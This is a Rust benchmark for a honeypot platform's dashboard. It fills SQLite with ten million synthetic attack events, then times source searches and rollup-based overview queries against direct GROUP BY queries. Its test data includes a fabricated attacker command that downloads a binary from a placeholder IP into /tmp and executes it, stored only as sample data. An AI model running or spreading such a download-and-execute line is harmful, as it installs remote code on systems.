//! Dashboard benchmark: event search and overview aggregates over 10,000,000 events in SQLite.
//!
//! `cargo bench -p apiary-core --bench dashboard` (env: `EVENTS`, default 10,000,000, always
//! spread over 30 days;
//! `BENCH_DB`, default `target/dashboard-bench/core.db`, reused when it already holds `EVENTS`
//! events; `RUNS`, default 20). Loads a synthetic month of honeypot traffic with one SQL
//! statement per million rows (skewed sources, credentials and commands, sessions of four
//! events), builds the API layer's indexes and rollups, then times:
//! - a 24 h time range + source address search (a page of 100), busy and rare sources;
//! - the overview (totals, five top-10 lists, timeline) for 24 h, 7 d and 30 d from the rollups;
//! - the anchor: the same overview by direct `GROUP BY` over the events (what a store without
//!   rollups does), measured in the same run.
#![allow(clippy::print_stdout, clippy::unwrap_used, missing_docs)]

use std::path::PathBuf;
use std::time::{Duration, Instant};

use apiary_core::http::db::{Db, EventFilter};
use apiary_event::Timestamp;
use sqlx::Row;
use sqlx::sqlite::SqliteConnectOptions;

const HOUR: i64 = 3_600_000_000;
const SOURCES: i64 = 50_000;

fn env_num(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.replace('_', "").parse().ok()).unwrap_or(default)
}

/// One million rows per statement: x runs over [from, to). Every value derives from x by
/// multiplicative hashing, so a rerun builds the same database.
fn load_sql(from: i64, to: i64, end: i64, step: i64) -> String {
    format!(
        "WITH RECURSIVE s(x) AS (SELECT {from} UNION ALL SELECT x + 1 FROM s WHERE x + 1 < {to}),
         r AS (SELECT x,
                 {end} - (x * {step}) % (30 * 86400000000) AS t,
                 (x * 2654435761) % 1000003 AS h1,
                 (x * 40503 + 7) % 999983 AS h2,
                 (x / 4) AS sess
               FROM s),
         v AS (SELECT x, t, sess,
                 CAST(({SOURCES} * ((h1 / 1000003.0) * (h1 / 1000003.0) * (h1 / 1000003.0))) AS INTEGER) AS src,
                 CASE x % 20 WHEN 0 THEN 'session.close' WHEN 1 THEN 'session.open' WHEN 2 THEN 'session.open'
                   WHEN 3 THEN 'session.open' WHEN 4 THEN 'session.open'
                   WHEN 5 THEN 'http.request' WHEN 6 THEN 'http.request'
                   WHEN 7 THEN 'command.input' WHEN 8 THEN 'command.input' WHEN 9 THEN 'command.input'
                   WHEN 10 THEN 'auth.attempt' WHEN 11 THEN 'auth.attempt' WHEN 12 THEN 'auth.attempt'
                   WHEN 13 THEN 'auth.attempt' WHEN 14 THEN 'auth.attempt'
                   ELSE 'session.rx' END AS kind,
                 CASE h2 % 10 WHEN 0 THEN 'telnet' WHEN 1 THEN 'web' WHEN 2 THEN 'smtp' WHEN 3 THEN 'redis'
                   WHEN 4 THEN 'mysql' WHEN 5 THEN 'sip' WHEN 6 THEN 'dns' ELSE 'ssh' END AS service,
                 'user' || CAST(50 * ((h2 / 999983.0) * (h2 / 999983.0)) AS INTEGER) AS usr,
                 'pass' || CAST(2000 * ((h1 / 1000003.0) * (h2 / 999983.0)) AS INTEGER) AS pwd
               FROM r),
         w AS (SELECT *,
                 ((src >> 8) % 200 + 20) || '.' || (src % 256) || '.' || ((src * 7) % 256) || '.' || ((src * 13) % 250 + 1) AS ip,
                 printf('%08x-0000-7000-8000-%012x', t / 1000000 % 4294967296, x) AS id,
                 printf('%08x-0000-7000-9000-%012x', t / 1000000 % 4294967296, sess) AS sid,
                 strftime('%Y-%m-%dT%H:%M:%fZ', t / 1000000.0, 'unixepoch') AS ts
               FROM v)
         INSERT INTO events (id, time, kind, node_id, node, pot, src_ip, src_port, username, password, body)
         SELECT id, t, kind, 1, 'bench', 'default', ip, 40000 + x % 20000,
           CASE WHEN kind = 'auth.attempt' THEN usr END,
           CASE WHEN kind = 'auth.attempt' THEN pwd END,
           json_object('id', id, 'time', ts, 'kind', kind, 'node', 'bench', 'pot', 'default',
             'service', service, 'transport', 'tcp', 'src_ip', ip, 'src_port', 40000 + x % 20000,
             'session', sid)
         FROM w",
    )
}

/// Adds the kind-specific blocks the single INSERT above cannot build compactly.
const ENRICH: &[&str] = &[
    "UPDATE events SET body = json_set(body, '$.auth', json_object('method', 'password',
        'username', username, 'password', password, 'success', json('false')))
     WHERE kind = 'auth.attempt' AND rowid > $1 AND rowid <= $2",
    "UPDATE events SET body = json_set(body, '$.command', json_object('input',
        'cd /tmp; wget http://198.51.100.7/bin.' || ((rowid * rowid) % 997 % 50) || '; sh bin'))
     WHERE kind = 'command.input' AND rowid > $1 AND rowid <= $2",
];

fn median(v: &mut [Duration]) -> (Duration, Duration) {
    v.sort();
    let p = |q: f64| v[((v.len() as f64 - 1.0) * q).round() as usize];
    (p(0.5), p(0.95))
}

fn ms(d: Duration) -> String {
    format!("{:.1} ms", d.as_secs_f64() * 1000.0)
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() {
    let events = env_num("EVENTS", 10_000_000) as i64;
    let runs = env_num("RUNS", 20) as usize;
    let path = std::env::var("BENCH_DB").map(PathBuf::from).unwrap_or_else(|_| {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/dashboard-bench/core.db")
    });
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let url = format!("sqlite:{}", path.display());
    let store = apiary_core::store::open(&url, None).await.unwrap();
    let pool =
        sqlx::SqlitePool::connect_with(SqliteConnectOptions::new().filename(&path)).await.unwrap();
    let have: i64 =
        sqlx::query("SELECT COUNT(*) AS n FROM events").fetch_one(&pool).await.unwrap().get("n");
    let end: i64 = match sqlx::query("SELECT MAX(time) AS t FROM events")
        .fetch_one(&pool)
        .await
        .unwrap()
        .try_get::<Option<i64>, _>("t")
        .unwrap()
    {
        Some(t) if have == events => t,
        _ => {
            sqlx::query("DELETE FROM events").execute(&pool).await.unwrap();
            let end = Timestamp::now().as_micros();
            let t0 = Instant::now();
            let chunk = 1_000_000i64;
            let mut from = 0;
            while from < events {
                let to = (from + chunk).min(events);
                let mut tx = pool.begin().await.unwrap();
                // Spread over 30 days whatever EVENTS is (10M: one event per 0.26 s).
                let step = 30 * 86_400_000_000 / events;
                sqlx::query(sqlx::AssertSqlSafe(load_sql(from, to, end, step)))
                    .execute(&mut *tx)
                    .await
                    .unwrap();
                for stmt in ENRICH {
                    sqlx::query(*stmt).bind(from).bind(to).execute(&mut *tx).await.unwrap();
                }
                tx.commit().await.unwrap();
                from = to;
                println!("loaded {to} events ({:.0} s)", t0.elapsed().as_secs_f64());
            }
            println!("load: {events} events in {:.0} s", t0.elapsed().as_secs_f64());
            end
        }
    };
    drop(store);
    let t0 = Instant::now();
    let db = Db::open(&url, None).await.unwrap();
    println!("API indexes ready in {:.1} s", t0.elapsed().as_secs_f64());
    let t0 = Instant::now();
    while !db.catch_up(1_000_000).await.unwrap() {
        println!("rollup… {:.0} s", t0.elapsed().as_secs_f64());
    }
    println!("rollups current in {:.1} s", t0.elapsed().as_secs_f64());
    let size = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
    println!("database {:.2} GiB, {events} events", size as f64 / (1u64 << 30) as f64);

    // Sources by traffic: the busiest and some from the long tail.
    let tops = db
        .overview(
            Timestamp::from_micros(end - 30 * 24 * HOUR),
            Timestamp::from_micros(end + 1),
            100,
        )
        .await
        .unwrap();
    let busy: Vec<String> = tops.top_sources.iter().take(20).map(|t| t.key.clone()).collect();
    let rare: Vec<String> =
        sqlx::query("SELECT src_ip FROM events WHERE rowid % 100003 = 7 LIMIT 20")
            .fetch_all(&pool)
            .await
            .unwrap()
            .iter()
            .map(|r| r.get::<String, _>("src_ip"))
            .collect();
    drop(pool);

    for (label, set) in [("busy", &busy), ("any", &rare)] {
        let mut times = Vec::new();
        let mut rows = 0;
        for i in 0..runs {
            let ip = set[i % set.len()].parse().unwrap();
            let day = (i as i64 * 7) % 29;
            let f = EventFilter {
                since: Some(Timestamp::from_micros(end - (day + 1) * 24 * HOUR)),
                until: Some(Timestamp::from_micros(end - day * 24 * HOUR)),
                src_ip: Some(ip),
                limit: 100,
                ..EventFilter::default()
            };
            let t = Instant::now();
            let page = db.search(&f).await.unwrap();
            times.push(t.elapsed());
            rows += page.events.len();
        }
        let (p50, p95) = median(&mut times);
        println!(
            "search 24 h + src_ip ({label} sources, page of 100): median {} p95 {} ({} rows/query avg)",
            ms(p50),
            ms(p95),
            rows / runs
        );
    }

    for (label, hours) in [("24 h", 24), ("7 d", 7 * 24), ("30 d", 30 * 24)] {
        let since = Timestamp::from_micros(end - hours * HOUR);
        let until = Timestamp::from_micros(end + 1);
        let mut times = Vec::new();
        let mut last = None;
        for _ in 0..runs {
            let t = Instant::now();
            let ov = db.overview(since, until, 10).await.unwrap();
            times.push(t.elapsed());
            assert_eq!(ov.source, "rollup");
            last = Some(ov);
        }
        let ov = last.unwrap();
        let total = ov.total;
        let (p50, p95) = median(&mut times);
        let t = Instant::now();
        let direct = db.overview_direct(since, until, 10).await.unwrap();
        let anchor = t.elapsed();
        // Exact, not approximate: the same lists as the direct GROUP BY.
        assert_eq!(direct.total, total);
        assert_eq!(direct.top_sources, ov.top_sources);
        assert_eq!(direct.top_credentials, ov.top_credentials);
        assert_eq!(direct.top_commands, ov.top_commands);
        assert_eq!(direct.top_services, ov.top_services);
        assert_eq!(direct.top_kinds, ov.top_kinds);
        assert_eq!(direct.timeline, ov.timeline);
        println!(
            "overview {label} ({total} events): rollup median {} p95 {}; anchor direct GROUP BY {} (x{:.0})",
            ms(p50),
            ms(p95),
            ms(anchor),
            anchor.as_secs_f64() / p50.as_secs_f64().max(1e-9)
        );
    }
    db.close().await;
}
